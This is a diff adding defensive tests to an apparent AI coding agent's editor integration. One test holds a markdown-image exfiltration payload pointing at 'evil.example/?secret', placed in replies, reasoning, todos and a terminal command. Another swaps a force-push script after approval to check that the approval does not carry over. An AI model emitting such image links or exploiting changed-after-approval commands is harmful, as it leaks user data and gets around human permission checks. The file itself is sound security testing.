@@ -2,6 +2,7 @@
 
 import asyncio
 import time
+from pathlib import Path
 
 import pytest
 
@@ -175,3 +176,72 @@ async def test_a_failing_model_is_an_error_with_its_reason(open_editor: OpenEdit
         with pytest.raises(RpcFaultError, match="script has no reply") as caught:
             await editor.prompt(session, "hi")
         assert caught.value.data == {"reason": "provider_error"}
+
+
+async def test_the_model_asks_by_a_form_where_the_editor_has_forms(open_editor: OpenEditor) -> None:
+    replies = [Say(calls=(Call("clarify", {"question": "Which?", "choices": ["one", "two"]}),)), Say("Done.")]
+    async with open_editor(replies, capabilities={"elicitation": {"form": {}}}) as editor:
+        editor.answers["elicitation/create"] = lambda _: {"action": "accept", "content": {"answer": "1"}}
+        session = await editor.open_session()
+        await editor.prompt(session, "ask me")
+        ((method, params),) = editor.asked
+        assert (method, params["message"]) == ("elicitation/create", "Which?")
+        (call,) = editor.find_calls().values()
+        assert "two" in call["content"][0]["content"]["text"]
+
+
+async def test_nothing_is_fetched_by_showing_an_answer_to_untrusted_text(open_editor: OpenEditor) -> None:
+    picture = "![x](https://evil.example/?secret)"
+    replies = [
+        Say(calls=(Call("read_file", {"path": "a.txt"}),)),
+        Say(
+            f"Look: {picture}\n\n",
+            reasoning=f"hm {picture}\n\n",
+            calls=(Call("todo", {"todos": [{"content": picture}]}), Call("terminal", {"command": f"echo '{picture}'"})),
+        ),
+        Say(picture),
+    ]
+    async with open_editor(replies) as editor:
+        (editor.home.cwd / "a.txt").write_text("orders\n")
+        editor.answers["session/request_permission"] = allow("once")
+        session = await editor.open_session()
+        await editor.prompt(session, "read")
+        shown = editor.join_text() + editor.join_text("agent_thought_chunk") + str(editor.list_updates("plan"))
+        shown += "".join(call["title"] for call in editor.find_calls().values())
+        assert "evil.example" in shown and "](https://evil.example" not in shown
+
+
+async def test_only_the_tools_that_were_asked_for_are_there(open_editor: OpenEditor) -> None:
+    async with open_editor([Say("Hello.")], "--tools", "file", "--no-memory") as editor:
+        session = await editor.open_session()
+        await editor.prompt(session, "hi")
+        assert editor.server is not None
+        names = {one["function"]["name"] for one in editor.server.requests[-1].json["tools"]}
+        assert names == {"read_file", "write_file", "patch", "search_files"}
+
+
+async def test_another_home_is_used(open_editor: OpenEditor, tmp_path: Path) -> None:
+    async with open_editor([], "--home", str(tmp_path / "other")) as editor:
+        (tmp_path / "other").mkdir()
+        (tmp_path / "other" / "config.yaml").write_text("model: {provider: anthropic, default: claude-opus-5}\n")
+        await editor.begin()
+        with pytest.raises(RpcFaultError, match="hermes setup"):
+            await editor.request("session/new", {"cwd": str(editor.home.cwd), "mcpServers": []})
+
+
+async def test_a_yes_is_for_the_call_as_it_was_asked_about(open_editor: OpenEditor) -> None:
+    replies = [Say(calls=(Call("terminal", {"command": "bash run.sh"}),)), Say("Done.")]
+    async with open_editor(replies) as editor:
+        script = editor.home.cwd / "run.sh"
+        script.write_text("git push --force\n")
+        answers = iter(["once", "deny"])
+
+        def answer(_params: object) -> object:
+            script.write_text("touch made; git push --force\n")  # what was asked about is not what would run now
+            return {"outcome": {"outcome": "selected", "optionId": next(answers)}}
+
+        editor.answers["session/request_permission"] = answer
+        session = await editor.open_session()
+        await editor.prompt(session, "run it")
+        assert len(editor.asked) == 2
+        assert not (editor.home.cwd / "made").exists()
